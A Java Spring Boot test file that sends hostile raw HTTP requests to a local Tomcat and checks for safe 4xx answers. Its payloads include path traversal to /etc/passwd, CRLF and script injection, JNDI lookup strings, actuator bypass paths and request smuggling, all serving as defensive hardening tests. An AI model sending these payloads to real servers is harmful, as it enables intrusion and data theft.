package se.klockan;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;

import se.klockan.RawHttp.Response;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What scanners and broken clients send, over raw sockets to a running Tomcat (MockMvc would
 * skip Tomcat's own parsing). Every answer is a 4xx in the client's format (or a 2xx where the
 * input is harmless), names no software, echoes nothing unescaped, and the server stays healthy.
 * Forwarded headers are trusted from loopback, as on Heroku behind the router.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT, properties = "server.forward-headers-strategy=native")
class HostileInputTests {

	/** Signs of a stack trace, a class name or the server software in an answer. */
	private static final List<String> LEAKS = List.of("Exception", "java.", "org.apache", "springframework",
			"se.klockan", "Tomcat", "Apache", "\tat ");

	@LocalServerPort
	int port;

	enum Format {

		/** Problem JSON, or WorldTimeAPI's JSON. */
		JSON("application/"),

		TEXT("text/plain"),

		HTML("text/html"),

		/** No body to check (OPTIONS, HEAD). */
		NONE("");

		final String type;

		Format(String type) {
			this.type = type;
		}

	}

	record Case(String name, String request, int status, Format format) {

		@Override
		public String toString() {
			return this.name;
		}

	}

	static Stream<Case> corpus() {
		return Stream.of(
				// Path traversal, plain and encoded
				new Case("dot segments above the root", get("/../../etc/passwd"), 400, Format.JSON),
				new Case("encoded dot segments", get("/%2e%2e/%2e%2e/etc/passwd", "Accept: text/plain"), 400,
						Format.TEXT),
				new Case("dot segments past a static file", get("/klockan.css/../../application.properties"), 400,
						Format.JSON),
				new Case("dot segments to a class path file", get("/api/../application.properties",
						"Accept: text/html"), 404, Format.HTML),
				new Case("encoded slash", get("/api/timezone/Europe%2FStockholm"), 400, Format.JSON),
				new Case("encoded backslash", get("/time%5c..%5c..%5cetc%5cpasswd"), 400, Format.JSON),
				new Case("path parameter", get("/time;jsessionid=x"), 200, Format.JSON),
				// Found by GeneratedInputTests: Spring MVC decoded these when writing any body, and failed
				new Case("a lone % in a path parameter", get("/;%"), 400, Format.JSON),
				new Case("a bad escape in a path parameter", get("/time;%zz", "Accept: text/plain"), 400, Format.TEXT),
				// Spring's trailing-slash filter parses the path: a 500 when it ran first.
				new Case("a lone % in an /api path parameter", get("/api/timezone/!/;%"), 400, Format.JSON),
				new Case("a bad escape in an actuator path parameter", get("/actuator/health;%mU"), 400, Format.JSON),
				new Case("double slashes", get("//actuator//env"), 404, Format.JSON),
				// Found by GeneratedInputTests: Tomcat failed reading it after the answer, with a stack trace
				new Case("a negative Content-Length", get("/time", "Content-Length: -1", "Accept: text/plain"), 400,
						Format.TEXT),
				new Case("a Content-Length that is not a number", get("/api/ip", "Content-Length: 5x"), 400,
						Format.JSON),
				new Case("two Content-Lengths", get("/time", "Content-Length: 0", "Content-Length: 5"), 400,
						Format.JSON),
				// Actuator: health only, whatever the path tricks
				new Case("actuator root", get("/actuator"), 404, Format.JSON),
				new Case("actuator env", get("/actuator/env", "Accept: text/plain"), 404, Format.TEXT),
				new Case("actuator heap dump", get("/actuator/heapdump"), 404, Format.JSON),
				new Case("actuator with a path parameter", get("/actuator;/env"), 404, Format.JSON),
				new Case("actuator past health with ..;", get("/actuator/health/..;/env"), 404, Format.JSON),
				new Case("actuator with encoded dots", get("/actuator/%2e%2e/actuator/env"), 404, Format.JSON),
				new Case("unknown health group", get("/actuator/health/nope"), 404, Format.JSON),
				// Actuator's JSON writer failed with a 500 on a charset JSON is never written in.
				new Case("health in ISO-8859-1", get("/actuator/health", "Accept: application/json;charset=iso-8859-1"),
						200, Format.JSON),
				new Case("health in ISO-8859-1 or UTF-8", get("/actuator/health",
						"Accept: application/json, application/json;charset=iso-8859-1"), 200, Format.JSON),
				new Case("health in ISO-8859-1 after the weight", get("/actuator/health",
						"Accept: application/json;q=1;charset=iso-8859-1"), 200, Format.JSON),
				new Case("health as a page", get("/actuator/health/..;/health", "Accept: text/html"), 406,
						Format.HTML),
				// NUL and invalid UTF-8
				new Case("NUL in a parameter", get("/time?tz=%00", "Accept: text/html"), 400, Format.HTML),
				new Case("overlong UTF-8 in a parameter", get("/time?tz=%C0%AF"), 400, Format.JSON),
				new Case("invalid UTF-8 in a zone", get("/api/timezone/%FF%FE"), 400, Format.JSON),
				new Case("raw 0xFF in the path", get("/api/timezone/\u00ff"), 400, Format.JSON),
				new Case("encoded NUL in the path", get("/%00", "Accept: text/plain"), 400, Format.TEXT),
				new Case("raw NUL in a header", get("/time", "Accept-Language: sv\u0000"), 400, Format.JSON),
				// Overlong input
				new Case("overlong zone", get("/api/timezone/" + "A".repeat(4000)), 404, Format.JSON),
				new Case("overlong tz", get("/time?tz=" + "A".repeat(4000), "Accept: text/html"), 400,
						Format.HTML),
				new Case("overlong request line", get("/time?tz=" + "A".repeat(20_000)), 400, Format.JSON),
				new Case("overlong header", get("/time", "X-A: " + "a".repeat(20_000)), 400, Format.JSON),
				new Case("too many headers", get("/time", headers(200)), 400, Format.JSON),
				// Injection
				new Case("CRLF in a parameter", get("/time?tz=%0d%0aSet-Cookie:%20x=y"), 400, Format.JSON),
				new Case("markup in a parameter", get("/time?tz=%3Cscript%3Ealert(1)%3C/script%3E",
						"Accept: text/html"), 400, Format.HTML),
				new Case("markup in the path", get("/%3Cscript%3Ealert(1)%3C/script%3E", "Accept: text/html"),
						404, Format.HTML),
				new Case("markup in a zone", get("/api/timezone/%3Cscript%3E.txt"), 404, Format.TEXT),
				new Case("JNDI lookup everywhere", get("/time?tz=$%7Bjndi:ldap://x/a%7D",
						"User-Agent: ${jndi:ldap://x/a}", "Accept-Language: ${jndi:ldap://x/a}"), 400,
						Format.JSON),
				// Methods
				new Case("TRACE", request("TRACE", "/time"), 405, Format.JSON),
				new Case("PROPFIND", request("PROPFIND", "/time", "Accept: text/plain"), 405, Format.TEXT),
				new Case("DELETE", request("DELETE", "/api/sync"), 405, Format.JSON),
				new Case("CONNECT", "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\nConnection: close\r\n\r\n",
						405, Format.JSON),
				new Case("a method with markup", request("G<T", "/time"), 400, Format.JSON),
				new Case("OPTIONS", request("OPTIONS", "/time"), 200, Format.NONE),
				new Case("HEAD", request("HEAD", "/time"), 200, Format.NONE),
				// Malformed headers
				new Case("malformed Accept", get("/nowhere", "Accept: text/html;;;q=x,,"), 404, Format.JSON),
				new Case("Accept with q above 1", get("/nowhere", "Accept: text/plain;q=2"), 404, Format.JSON),
				new Case("malformed Accept-Language", get("/time", "Accept: text/html",
						"Accept-Language: xx-;;q=z,*;q=,\u00ff"), 200, Format.HTML),
				// Tomcat 11.0.27 failed every request with more than ten (a 500); 11.0.29 reads ten.
				new Case("forty languages", get("/time", "Accept: text/html",
						"Accept-Language: " + "sv, en, ".repeat(20)), 200, Format.HTML),
				new Case("X-Forwarded-For that is not an address", get("/api/timezone/Etc/UTC",
						"X-Forwarded-For: <script>, ::::"), 400, Format.JSON),
				new Case("X-Forwarded-For with markup, as text", get("/time", "Accept: text/plain",
						"X-Forwarded-For: 1.2.3.4, <b>x</b>"), 400, Format.TEXT),
				new Case("odd X-Forwarded-Proto and -Port", get("/time", "X-Forwarded-For: 192.0.2.1",
						"X-Forwarded-Proto: gopher", "X-Forwarded-Port: 99999999"), 200, Format.JSON),
				new Case("two Content-Lengths", get("/time", "Content-Length: 1", "Content-Length: 2") + "ab",
						400, Format.JSON),
				// Not HTTP at all, or not a version we speak
				new Case("random bytes", garbage(), 400, Format.JSON),
				new Case("a TLS hello", "\u0016\u0003\u0001\u0000\u00a5\u0001\u0000\u0000\u00a1\u0003\u0003"
						+ "\u0000".repeat(64), 400, Format.JSON),
				new Case("HTTP/1.0 without Host", "GET /time HTTP/1.0\r\n\r\n", 200, Format.JSON),
				new Case("HTTP/1.1 without Host", "GET /time HTTP/1.1\r\nConnection: close\r\n\r\n", 400,
						Format.JSON),
				new Case("HTTP/2.0 in a request line", get("/time").replace("HTTP/1.1", "HTTP/2.0"), 505,
						Format.JSON),
				new Case("HTTP/3.0, as text", get("/time", "Accept: text/plain").replace("HTTP/1.1", "HTTP/3.0"),
						505, Format.TEXT),
				new Case("HTTP/9.9, in Swedish", get("/time", "Accept: text/html", "Accept-Language: sv")
					.replace("HTTP/1.1", "HTTP/9.9"), 505, Format.HTML));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("corpus")
	void answersBadInputWithA4xxInTheClientsFormat(Case hostile) throws IOException {
		List<Response> responses = RawHttp.exchange(this.port, hostile.request());
		assertThat(responses).as("answers").hasSize(1);
		Response response = responses.get(0);
		assertThat(response.complete()).isTrue();
		assertThat(response.status()).isEqualTo(hostile.status());
		assertSafe(response, hostile.status());
		if (hostile.format() != Format.NONE) {
			assertThat(response.header("Content-Type")).startsWith(hostile.format().type);
			assertThat(response.body()).isNotEmpty();
		}
		if ("application/problem+json".equals(response.header("Content-Type"))) {
			assertThat(response.body()).contains("\"status\":" + hostile.status()).doesNotContain("<");
		}
	}

	@Test
	void aBodyOnGetIsReadPastAndTheNextRequestIsAnswered() throws IOException {
		List<Response> responses = RawHttp.exchange(this.port,
				"GET /time HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello" + get("/api/sync"));
		assertThat(responses).extracting(Response::status).containsExactly(200, 200);
		assertThat(responses.get(1).body()).contains("\"receive_us\"");
	}

	@Test
	void contentLengthWithTransferEncodingSmugglesNothing() throws IOException {
		List<Response> responses = RawHttp.exchange(this.port, "GET /time HTTP/1.1\r\nHost: x\r\n"
				+ "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + get("/smuggled"));
		assertThat(responses).as("one answer, then the connection closes").hasSize(1);
		assertThat(responses.get(0).status()).isEqualTo(200);
		assertThat(responses.get(0).header("Connection")).isEqualTo("close");
	}

	@Test
	void theStartOfAnHttp2ConnectionIsClosedWithoutAnError() throws IOException {
		// Tomcat recognises the preface and, with no HTTP/2 configured, closes the connection.
		assertThat(RawHttp.exchange(this.port, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")).isEmpty();
	}

	@Test
	void slowClientsHoldingHalfSentRequestsDoNotHoldUpOthers() throws IOException {
		try (RawHttp.Held slow = RawHttp.hold(this.port, 300, "GET /time HTTP/1.1\r\nHo")) {
			for (int i = 0; i < 20; i++) {
				assertThat(RawHttp.exchange(this.port, get("/time"))).extracting(Response::status).containsExactly(200);
			}
			Socket first = slow.sockets().get(0);
			first.getOutputStream().write("st: x\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
			InputStream in = first.getInputStream();
			assertThat(RawHttp.read(in, false).status()).isEqualTo(200);
		}
	}

	@AfterEach
	void serverStaysHealthy() throws IOException {
		List<Response> health = RawHttp.exchange(this.port, get("/actuator/health"));
		assertThat(health).singleElement().satisfies((response) -> {
			assertThat(response.status()).isEqualTo(200);
			assertThat(response.body()).contains("\"status\":\"UP\"");
		});
	}

	/** Nothing the client shouldn't see; 5xx only where asked for (505, for an HTTP version). */
	private static void assertSafe(Response response, int expected) {
		if (expected != 505) {
			assertThat(response.status()).as("status").isLessThan(500);
		}
		assertThat(response.header("Server")).as("Server header").isNull();
		assertThat(response.header("Set-Cookie")).as("Set-Cookie header").isNull();
		assertThat(response.header("X-Content-Type-Options")).isEqualTo("nosniff");
		assertThat(response.body()).doesNotContain(LEAKS).doesNotContain("<script>", "<b>");
	}

	private static String get(String target, String... headers) {
		return request("GET", target, headers);
	}

	private static String request(String method, String target, String... headers) {
		return method + " " + target + " HTTP/1.1\r\nHost: x\r\n" + String.join("", Stream.of(headers)
			.map((header) -> header + "\r\n")
			.toList()) + "Connection: close\r\n\r\n";
	}

	private static String[] headers(int count) {
		return Stream.iterate(0, (i) -> i + 1).limit(count).map((i) -> "X-" + i + ": a").toArray(String[]::new);
	}

	/** The same 512 random bytes every run. */
	private static String garbage() {
		byte[] bytes = new byte[512];
		new Random(6).nextBytes(bytes);
		return new String(bytes, StandardCharsets.ISO_8859_1);
	}

}
